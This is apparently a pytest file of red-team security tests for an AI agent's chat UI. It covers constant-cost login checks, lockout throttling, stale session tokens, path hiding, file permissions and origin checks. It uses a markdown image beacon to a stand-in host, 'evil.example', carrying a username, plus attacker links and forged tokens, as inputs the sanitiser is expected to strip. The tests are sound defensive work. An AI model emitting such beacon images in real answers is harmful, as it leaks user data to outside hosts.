"""Red team, chat UI (issue 12 items 12, 13, 15, 16, 18): the parts that need no server.

Login checks cost the same for every name, wrong passwords lock a name and an address, old
session tokens stop working, data is shown as text, remote images never reach the page,
server paths never reach the page, and the UI's files are private.
"""

from __future__ import annotations

import asyncio
import stat
import time
from pathlib import Path
from typing import Any

import bcrypt
import jwt
import pytest

from agent.events import DocumentProduced, FinalAnswer, TextDelta, ToolCall, ToolResult
from agent.planner.narrate import narrate_tool
from ui import auth, datalayer, guard, render, render_text
from ui.safe_md import safe_markdown
from ui.throttle import LoginThrottle

BEACON = "![b](http://evil.example/beacon.png?who=alice)"


def counted_bcrypt(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Count real bcrypt checks (the real function still runs)."""
    calls: list[int] = []
    real = bcrypt.checkpw

    def checkpw(password: bytes, hashed: bytes) -> bool:
        calls.append(1)
        return real(password, hashed)

    monkeypatch.setattr(auth.bcrypt, "checkpw", checkpw)
    return calls


def test_every_login_check_does_one_bcrypt_whoever_the_name(
        monkeypatch: pytest.MonkeyPatch) -> None:
    users = {"real": auth.Credential(name="real", bcrypt_hash=bcrypt.hashpw(
        b"right-password", bcrypt.gensalt(4)).decode()),
             "env": auth.Credential(name="env", plain="env-password")}
    calls = counted_bcrypt(monkeypatch)
    outcomes = {}
    for name, password in (("real", "wrong"), ("real", "right-password"), ("nobody", "x"),
                           ("env", "wrong"), ("env", "env-password"), ("real", "")):
        before = len(calls)
        outcomes[(name, password)] = auth.authenticate(users, name, password)
        assert len(calls) - before == 1, (name, password)  # an unknown name is not cheaper
    assert [k for k, ok in outcomes.items() if ok] == [("real", "right-password"),
                                                       ("env", "env-password")]


def test_wrong_passwords_lock_the_name_then_the_address() -> None:
    now = [0.0]
    throttle = LoginThrottle(per_user=5, per_address=8, window_s=900, clock=lambda: now[0])
    for _ in range(5):
        assert throttle.begin("alice", "10.0.0.1")  # each one fails (never succeeded)
    assert not throttle.begin("alice", "10.0.0.1")  # the right password would not get in
    assert not throttle.begin("alice", "10.0.0.2")  # nor from another address
    assert throttle.begin("bob", "10.0.0.1")
    throttle.succeeded("bob", "10.0.0.1")
    for name in ("carol", "dave"):
        assert throttle.begin(name, "10.0.0.1")
    assert throttle.begin("erin", "10.0.0.1")
    assert not throttle.begin("frank", "10.0.0.1")  # the address has 8 failures now
    assert throttle.begin("frank", "10.0.0.9")
    now[0] = 901.0
    assert throttle.begin("alice", "10.0.0.1")  # the window has passed


def _token(name: str, stamp: str, secret: str, iat: float | None = None) -> str:
    issued = time.time() if iat is None else iat
    return jwt.encode({"identifier": name, "metadata": {auth.STAMP_KEY: stamp},
                       "iat": int(issued), "exp": int(issued) + 3600}, secret,
                      algorithm="HS256")


def test_logout_and_a_new_password_make_old_tokens_stale(tmp_path: Path) -> None:
    secret = "s" * 40
    auth.add_user(tmp_path, "alice", "first-password")
    users = auth.load_users(tmp_path)
    token = _token("alice", auth.session_stamp(tmp_path, users["alice"], secret), secret)
    assert auth.token_is_current(token, tmp_path, secret, 3600)
    auth.revoke_sessions(tmp_path, "alice")  # what logging out does
    assert not auth.token_is_current(token, tmp_path, secret, 3600)
    users = auth.load_users(tmp_path)
    token = _token("alice", auth.session_stamp(tmp_path, users["alice"], secret), secret)
    assert auth.token_is_current(token, tmp_path, secret, 3600)
    auth.add_user(tmp_path, "alice", "second-password")
    assert not auth.token_is_current(token, tmp_path, secret, 3600)
    users = auth.load_users(tmp_path)
    old = _token("alice", auth.session_stamp(tmp_path, users["alice"], secret), secret,
                 iat=time.time() - 7200)
    assert not auth.token_is_current(old, tmp_path, secret, 3600)  # older than a session
    assert not auth.token_is_current(_token("mallory", "0.x", secret), tmp_path, secret, 3600)
    forged = _token("alice", auth.session_stamp(tmp_path, users["alice"], secret), "other")
    assert not auth.token_is_current(forged, tmp_path, secret, 3600)


def test_data_in_a_table_is_text_not_markdown() -> None:
    rows = [{"partner_id": "P-1", "name": f"{BEACON} [win](http://evil.example) # H | x"}]
    table = render_text.partner_table(rows)
    assert "![" not in table and "](" not in table
    assert table.count("|") - table.count("\\|") == 3 * 3  # no extra column from the pipe
    assert "\\!\\[b\\]" in table  # shown as typed


def test_answers_drop_remote_images_and_unlisted_links() -> None:
    text = (f"Partner {BEACON} and [site](https://evil.example/x), "
            "<http://evil.example/a>, http://evil.example/b, ![ok](/public/logo.png), "
            "[docs](https://docs.partner.example/p) and `![c](http://evil.example/in-code)`")
    safe = safe_markdown(text, link_hosts=["partner.example"])
    prose = safe.split("`![c]")[0]
    assert "](http://evil" not in prose and "](https://evil" not in prose
    assert "<http://evil" not in prose
    assert "b (image not shown)" in safe
    assert "`http://evil.example/b`" in safe  # shown, not clickable
    assert "![ok](/public/logo.png)" in safe  # the app's own image stays
    assert "[docs](https://docs.partner.example/p)" in safe  # allow-listed
    assert "`![c](http://evil.example/in-code)`" in safe  # code renders as text anyway
    ref = safe_markdown("![x][r]\n\n[r]: http://evil.example/i.png")
    assert "![x][r]" not in ref and "\n[r]: http" not in ref


class _Emitter:
    """Chainlit's emitter and session stand-in: the renderer sends, nothing listens."""

    def __getattr__(self, name: str) -> Any:
        async def call(*args: Any, **kwargs: Any) -> Any:
            return None
        return call


def _render(events: list[Any], roots: tuple[str, ...]) -> render.TurnRenderer:
    from chainlit.context import context_var

    class Session(_Emitter):
        thread_id = "t1"
        id = "s1"

        async def persist_file(self, **kwargs: Any) -> dict[str, str]:
            return {"id": "f1"}

    class Context:
        emitter = _Emitter()
        session = Session()
        current_step = None
        current_run = None

    renderer = render.TurnRenderer(roots=roots)

    async def run() -> None:
        context_var.set(Context())  # type: ignore[arg-type]
        for event in events:
            await renderer.handle(event)
        await renderer.finish()

    asyncio.run(run())
    return renderer


def test_a_drafted_document_shows_file_names_never_server_paths(tmp_path: Path) -> None:
    folder = tmp_path / "data" / "documents"
    md = folder / "thesis-x-1234.md"
    out = {"kind": "thesis", "title": "Partnership thesis", "markdown": "# T",
           "markdown_path": str(md), "docx_path": str(md.with_suffix(".docx"))}
    narration = narrate_tool("draft_thesis", out)
    assert str(folder) not in narration and "thesis-x-1234.md" in narration
    answer = f"Saved to {md} and {md.with_suffix('.docx')}. {BEACON}"  # as a model may say
    renderer = _render([
        ToolCall(call_id="c1", name="draft_thesis", input={}),
        ToolResult(call_id="c1", name="draft_thesis", output=out),
        DocumentProduced(kind="thesis", title="Partnership thesis", markdown=f"# T\n{md}", model={},
                         markdown_path=str(md), docx_path=str(md.with_suffix(".docx"))),
        TextDelta(text=answer), FinalAnswer(text=answer, backend="openai", model="m"),
    ], roots=(str(tmp_path / "data"),))
    shown = [renderer.answer.content if renderer.answer else "",
             *(m.content for m in renderer.documents),
             *(str(s.output) for s in renderer.steps.values())]
    for text in shown:
        assert str(tmp_path) not in text, text
    assert "thesis-x-1234.md" in shown[0] and "(image not shown)" in shown[0]


def test_the_ui_data_folder_and_its_files_are_private(tmp_path: Path) -> None:
    data = tmp_path / "data"
    db = datalayer.init_db(data)
    client = datalayer.make_storage_client(data / datalayer.FILES_DIR)
    asyncio.run(client.upload_file("u1/e1/chart.json", b"{}"))
    element = data / datalayer.FILES_DIR / "u1" / "e1" / "chart.json"
    for path, mode in ((data, 0o700), (db, 0o600), (element, 0o600),
                       (element.parent, 0o700), (data / datalayer.FILES_DIR, 0o700)):
        assert stat.S_IMODE(path.stat().st_mode) == mode, path
    loose = tmp_path / "loose"
    loose.mkdir(mode=0o755)
    datalayer.init_db(loose)  # an existing world-readable folder is tightened
    assert stat.S_IMODE(loose.stat().st_mode) == 0o700


def test_only_the_apps_own_origin_passes_the_front_door() -> None:
    allowed = guard.allowed_origins(None, "127.0.0.1", 8000)
    assert allowed == {"http://127.0.0.1:8000", "http://localhost:8000", "http://[::1]:8000"}

    def scope(origin: str | None, host: str = "127.0.0.1:8000") -> dict[str, object]:
        headers = [(b"host", host.encode())]
        if origin is not None:
            headers.append((b"origin", origin.encode()))
        return {"type": "http", "scheme": "http", "headers": headers}

    for origin in ("http://127.0.0.1:8001", "null", "http://127.0.0.1:8000.evil.example",
                   "https://127.0.0.1:8000", "http://evil.example", "file://"):
        assert not guard.origin_ok(scope(origin), allowed), origin
    for origin in (None, "http://127.0.0.1:8000", "HTTP://LOCALHOST:8000/",
                   "http://10.1.2.3:8000"):
        assert guard.origin_ok(scope(origin, host="10.1.2.3:8000" if origin and "10." in
                                     origin else "127.0.0.1:8000"), allowed), origin
    custom = guard.allowed_origins("https://pp.example.com/, https://b.example", "0.0.0.0", 1)
    assert custom == {"https://pp.example.com", "https://b.example"}
